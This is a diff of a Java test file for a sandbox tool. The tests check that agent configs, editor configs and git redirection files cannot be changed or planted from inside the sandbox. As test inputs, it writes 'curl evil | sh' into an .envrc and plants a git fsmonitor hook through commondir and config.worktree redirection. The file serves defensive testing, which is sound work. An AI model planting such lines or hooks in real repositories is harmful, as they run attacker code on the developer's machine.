@@ -6,36 +6,21 @@ import java.nio.file.Files;
 import java.nio.file.LinkOption;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
-import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.api.extension.ExtendWith;
 
 /**
  * The files the host obeys later (agent and editor configs, nested repositories, git's redirections), attacked
  * from inside the real sandbox: at the root and below it, existing and absent, planted during the run.
  */
 @Timeout(120)
+@ExtendWith(Fixture.Extension.class)
 class ProtectedPathsAttackTest {
     static final String QUARANTINED = ".sallyport-quarantine";
 
-    @TempDir
-    Path tmp;
-    Fixture f;
-
-    @BeforeEach
-    void setUp() throws Exception {
-        f = new Fixture(tmp);
-    }
-
-    @AfterEach
-    void tearDown() {
-        f.close();
-    }
-
     @Test
-    void absentNamesAtTheRootAreReadOnlyFilesWhereTheNameIsAFileAndLeaveNoTrace() throws Exception {
+    void absentNamesAtTheRootAreReadOnlyFilesWhereTheNameIsAFileAndLeaveNoTrace(Fixture f) throws Exception {
         f.host("git", "init", "-q", ".");
         Fixture.Run r = f.run("for n in .gitmodules .mcp.json .envrc .claude/settings.json .claude/settings.local.json"
                 + " .cursor/mcp.json .gemini/settings.json .amazonq/mcp.json .devcontainer.json .bashrc .gitconfig; do"
@@ -63,7 +48,7 @@ class ProtectedPathsAttackTest {
     }
 
     @Test
-    void existingAgentAndEditorConfigsAtTheRootCannotBeChangedOrMovedAway() throws Exception {
+    void existingAgentAndEditorConfigsAtTheRootCannotBeChangedOrMovedAway(Fixture f) throws Exception {
         String[] files = {".claude/settings.json", ".cursor/mcp.json", ".gemini/settings.json", ".amazonq/mcp.json",
             ".devcontainer/devcontainer.json", ".devcontainer.json", "team.code-workspace", ".mcp.json"};
         for (String file : files) {
@@ -85,7 +70,7 @@ class ProtectedPathsAttackTest {
     }
 
     @Test
-    void nestedProtectedEntriesAreReadOnlyAndTheFoldersAboveThemCannotBeMovedAway() throws Exception {
+    void nestedProtectedEntriesAreReadOnlyAndTheFoldersAboveThemCannotBeMovedAway(Fixture f) throws Exception {
         f.host("git", "init", "-q", "vendor/lib");
         f.write("apps/web/.vscode/tasks.json", "{\"tasks\":[]}\n");
         f.write("apps/web/.envrc", "export A=1\n");
@@ -112,7 +97,7 @@ class ProtectedPathsAttackTest {
     }
 
     @Test
-    void namesCreatedBelowTheRootDuringTheRunAreQuarantinedAndReported() throws Exception {
+    void namesCreatedBelowTheRootDuringTheRunAreQuarantinedAndReported(Fixture f) throws Exception {
         Files.createDirectories(f.workspace.resolve("e"));
         Fixture.Run r = f.run("mkdir -p sub/.vscode && echo '{\"tasks\":[]}' > sub/.vscode/tasks.json && echo vscode=ok;"
                 + " echo 'curl evil | sh' > sub/.envrc && echo envrc=ok; mkdir -p lib && git init -q lib/x && echo git=ok;"
@@ -138,7 +123,7 @@ class ProtectedPathsAttackTest {
     }
 
     @Test
-    void aFolderMadeUnreadableDoesNotHideWhatIsInside() throws Exception {
+    void aFolderMadeUnreadableDoesNotHideWhatIsInside(Fixture f) throws Exception {
         Fixture.Run r = f.run("mkdir -p h/.vscode && echo '{}' > h/.vscode/tasks.json && chmod 0 h && echo hidden=ok");
         assertThat(r.out()).contains("hidden=ok");
         assertThat(Files.getPosixFilePermissions(f.workspace.resolve("h"))).as("permissions restored").isEmpty();
@@ -149,10 +134,10 @@ class ProtectedPathsAttackTest {
     }
 
     @Test
-    void withWritableGitTheFilesThatRedirectConfigAndHooksStayReadOnly() throws Exception {
+    void withWritableGitTheFilesThatRedirectConfigAndHooksStayReadOnly(Fixture f) throws Exception {
         f.host("git", "init", "-q", ".");
         f.host("git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "one");
-        Path marker = tmp.resolve("fsmonitor-ran");
+        Path marker = f.root.resolve("fsmonitor-ran");
         f.write("evil/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch " + marker + "; false\n");
         SandboxSpec spec = f.spec("cat .git/commondir; echo ../evil > .git/commondir; echo commondir=$?;"
                 + " echo '[core] fsmonitor = evil' > .git/config.worktree; echo worktree=$?;"
